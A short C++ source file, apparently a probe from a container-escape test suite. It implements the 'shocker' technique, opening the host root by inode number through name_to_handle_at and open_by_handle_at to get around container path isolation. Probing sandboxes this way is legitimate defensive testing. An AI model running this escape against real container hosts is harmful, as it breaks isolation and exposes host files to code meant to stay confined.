// Tries to open files by number instead of path, the way out of many containers ("shocker").
#include <fcntl.h>

#include "attempt.hpp"

int main() {
  struct {
    file_handle head{8, 1 /* inode and generation */, {}};
    unsigned inode[2] = {2, 0};
  } handle;
  int mount = 0;
  attempt("name_to_handle_at", name_to_handle_at(AT_FDCWD, "/usr", &handle.head, &mount, 0));
  attempt("open_by_handle_at", open_by_handle_at(open("/", O_RDONLY), &handle.head, O_RDONLY));
  return escaped;
}
